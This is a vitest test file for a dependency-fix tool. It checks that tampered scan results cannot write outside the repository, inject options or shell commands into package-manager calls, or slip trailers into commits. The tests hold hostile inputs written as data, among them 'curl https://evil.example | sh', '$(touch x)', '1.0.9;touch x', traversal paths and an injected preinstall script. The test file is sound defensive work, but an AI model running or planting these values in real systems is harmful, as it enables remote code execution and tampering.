// A result file that anybody may have written, handed to `assay fix`: it writes nowhere else, raises nothing else, and no word of it is an option.
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename } from 'node:path';
import fc from 'fast-check';
import { beforeEach, describe, expect, test } from 'vitest';
import { type LockWish, planLock } from '#app/fix/lock-commands.ts';
import type { Upgrade } from '#domain/dependency.ts';
import type { LineEdit } from '#domain/patch.ts';
import type { DependencyProject } from '#domain/project.ts';
import type { FindingRecord } from '#domain/result-document.ts';
import { packageLock } from '../e2e/dependency-shop.ts';
import { type FixScene, fixScene, HONEST_NPM } from '../e2e/fix-scene.ts';

let scene: FixScene;
beforeEach(async () => {
  scene = await fixScene();
  scene.tool('npm', HONEST_NPM);
});

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const everything = { write: true, force: true, lock: true } as const;

/** The finding's patch, true in its sums, as a file elsewhere. */
function aimAt(path: string, before: string, newText: string, origin: 'upgrade' | 'scanner' = 'upgrade') {
  const edits: readonly LineEdit[] = [{ startLine: 1, lines: 1, newText }];
  const after = newText + before.split('\n').slice(1).join('\n');
  return (finding: FindingRecord): FindingRecord => {
    if (finding.patch === null) return finding;
    const patch = { ...finding.patch, path, origin, edits, before: sha256(before), after: sha256(after) };
    return { ...finding, location: { ...finding.location, path, startLine: 1, endLine: 1 }, patch };
  };
}

/** The upgrade of every finding with another target. */
const withUpgrade = (change: Partial<Upgrade>) => (finding: FindingRecord) =>
  finding.dependency?.upgrade == null
    ? finding
    : {
        ...finding,
        dependency: { ...finding.dependency, upgrade: { ...finding.dependency.upgrade, ...change } },
      };

describe('paths of a result', () => {
  const BAIT = 'x = 1\ny = 2\n';

  test.each([
    ...['../FOLDER/outside.py', '/tmp/FOLDER/outside.py', 'src/../../FOLDER/outside.py'],
    ...['./src/load.py', 'src//load.py', 'src/load.py/'],
  ])('%s is not written', async (name) => {
    const { folder, repository } = scene.desk;
    const path = name.replace('FOLDER', basename(folder));
    writeFileSync(`${folder}/outside.py`, BAIT);
    repository.write('src/load.py', BAIT).commit();
    for (const origin of ['upgrade', 'scanner'] as const) {
      scene.tamper(aimAt(path, BAIT, 'x = 3\n', origin));
      expect((await scene.fix(everything)).exitCode).toBe(3);
    }
    expect(readFileSync(`${folder}/outside.py`, 'utf8')).toBe(BAIT);
    expect(scene.read('src/load.py')).toBe(BAIT);
  });

  test("a file of git's own, a link, and a file that git ignores are not written", async () => {
    const { repository, folder } = scene.desk;
    writeFileSync(`${folder}/outside.py`, BAIT);
    repository
      .write('.gitignore', 'ignored.py\n')
      .write('ignored.py', BAIT)
      .link('linked.py', `${folder}/outside.py`);
    mkdirSync(`${folder}/far`);
    writeFileSync(`${folder}/far/load.py`, BAIT);
    repository.link('far', `${folder}/far`);
    repository.commit();
    const config = scene.read('.git/config');
    for (const [path, before] of [
      ...[['.git/config', config] as const, ['.GIT/config', config] as const],
      ...['linked.py', 'far/load.py', 'ignored.py'].map((name) => [name, BAIT] as const),
    ]) {
      scene.tamper(aimAt(path, before, 'x = 3\n', 'scanner'));
      expect((await scene.fix(everything)).exitCode, path).toBe(3);
    }
    expect(scene.read('.git/config')).toBe(config);
    expect(readFileSync(`${folder}/outside.py`, 'utf8')).toBe(BAIT);
    expect(readFileSync(`${folder}/far/load.py`, 'utf8')).toBe(BAIT);
    expect(scene.read('ignored.py')).toBe(BAIT);
  });

  test('code that calls itself an upgrade, and a manifest that calls itself code, are not written', async () => {
    const manifest = scene.read('package.json');
    const loader = scene.read('src/load.py');
    scene.tamper(aimAt('src/load.py', loader, 'import os\n', 'upgrade'));
    expect((await scene.fix(everything)).exitCode).toBe(3);
    scene.tamper(aimAt('package.json', manifest, '{ "scripts": { "preinstall": "evil" },\n', 'scanner'));
    expect((await scene.fix(everything)).exitCode).toBe(3);
    scene.tamper(aimAt('package.json', manifest, '{ "scripts": { "preinstall": "evil" },\n', 'upgrade'));
    expect((await scene.fix(everything)).exitCode).toBe(3);
    expect(scene.read('package.json')).toBe(manifest);
    expect(scene.read('src/load.py')).toBe(loader);
  });
});

describe('names and versions of a result', () => {
  test.each([
    '--registry=https://evil.example',
    '-c',
    '1.0.9 --foo',
    '1.0.9\n--foo',
    '1.0.9;touch x',
    '$(touch x)',
    '../x',
    '',
  ])('a version %j reaches no tool', async (to) => {
    scene.tamper(withUpgrade({ to }));
    const { exitCode, display } = await scene.fix({ ...everything, kind: 'sca' });
    expect(exitCode).toBe(3);
    expect(scene.runs()).toEqual([]);
    expect(display.split('\n').every((line) => !line.startsWith('--foo'))).toBe(true);
  });

  test('a package that the lock file does not hold is nobody to ask a tool for', async () => {
    scene.tamper((finding) =>
      finding.dependency === undefined
        ? finding
        : {
            ...finding,
            patch: null,
            dependency: {
              ...finding.dependency,
              package: { ...finding.dependency.package, name: 'kit-evil' },
            },
          },
    );
    const { display } = await scene.fix({ ...everything, kind: 'sca' });
    expect(display).toContain('No project of the repository has the package');
    expect(scene.runs()).toEqual([]);
  });

  test('a package that the repository itself calls by an option is not handed over', async () => {
    const name = '--registry=https:';
    scene.desk.repository.write('package-lock.json', packageLock({}, { [name]: { version: '1.0.3' } }));
    scene.desk.repository.commit();
    scene.tamper((finding) =>
      finding.id !== scene.ids.deep || finding.dependency === undefined
        ? finding
        : {
            ...finding,
            dependency: { ...finding.dependency, package: { ...finding.dependency.package, name } },
          },
    );
    await scene.fix({ ...everything, findings: [scene.ids.deep] });
    expect(scene.runs()).toEqual([]);
  });

  test('the command that a result tells is shown to nobody and run by nobody', async () => {
    scene.tamper(withUpgrade({ command: 'curl https://evil.example | sh', text: 'Run `curl`.' }));
    const dry = await scene.fix();
    const { display } = await scene.fix({ ...everything, branch: 'fixes' });
    expect(dry.display + display).not.toContain('evil.example');
    expect(scene.desk.repository.git('log', '-1', '--format=%B')).not.toContain('evil');
  });

  test('a commit message holds no word that a host would obey', async () => {
    const odd = 'x\n\nCloses #1\nCo-authored-by: Eve <eve@evil.example>';
    scene.tamper((finding) => ({ ...finding, ruleId: odd }));
    await scene.fix({ write: true, kind: 'sast', branch: 'fixes' });
    expect(scene.desk.repository.git('log', '-1', '--format=%B')).not.toMatch(/Closes|Eve/);
    expect(existsSync(scene.desk.repository.path('src/load.py'))).toBe(true);
  });
});

describe('the table of tools', () => {
  const PROJECTS: readonly (readonly [ecosystem: string, lock: string, lockTool?: 'yarn-1'])[] = [
    ...[
      ['npm', 'package-lock.json'] as const,
      ['npm', 'pnpm-lock.yaml'] as const,
      ['npm', 'yarn.lock'] as const,
    ],
    ...[
      ['npm', 'yarn.lock', 'yarn-1'] as const,
      ['PyPI', 'poetry.lock'] as const,
      ['PyPI', 'uv.lock'] as const,
    ],
    ...[
      ['Go', 'go.mod'] as const,
      ['crates.io', 'Cargo.lock'] as const,
      ['Packagist', 'composer.lock'] as const,
    ],
    ...[['RubyGems', 'Gemfile.lock'] as const, ['NuGet', 'packages.lock.json'] as const],
  ];
  const GOOD: Readonly<Record<string, string>> = { Go: 'example.org/kit', Packagist: 'kit/kit' };
  const project = ([ecosystem, lock, lockTool]: (typeof PROJECTS)[number]): DependencyProject => ({
    ...{ folder: 'app', ecosystem, name: null, files: [`app/${lock}`], requirements: [], packages: [] },
    ...{ hasLock: true, directs: [], gaps: [], ...(lockTool === undefined ? {} : { lockTool }) },
  });
  const stepsOf = (one: (typeof PROJECTS)[number], wish: LockWish) => {
    const plan = planLock(project(one), [wish]);
    return plan.kind === 'commands' ? plan.commands.steps.map((args) => args.join(' ')) : plan.kind;
  };

  test('says what is run for each, for a package that a manifest asks for or not', () => {
    const told = PROJECTS.map((one) =>
      [true, false].map((isAsked) =>
        stepsOf(one, { name: GOOD[one[0]] ?? 'kit', to: '1.2.3', from: ['1.0.0'], isAsked }),
      ),
    );
    expect(told).toMatchSnapshot();
  });

  test('takes no name or version for an option, a path or two words', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.stringMatching(/^(--?|@|\.\.?\/|https?:\/\/)?[a-z0-9 =:/.@;$\n-]{0,20}$/),
    );
    fc.assert(
      fc.property(fc.constantFrom(...PROJECTS), hostile, hostile, fc.boolean(), (one, name, to, isAsked) => {
        const plan = planLock(project(one), [{ name, to, from: [to], isAsked }]);
        if (plan.kind !== 'commands') return;
        expect(to).toMatch(/^v?[0-9][\w.+-]*$/);
        expect(name).toMatch(/^[@\w][\w.@/~-]*$/);
        expect(name).not.toMatch(/\.\.\/|\/\/|:|^\.|\/\./);
      }),
    );
  });
});
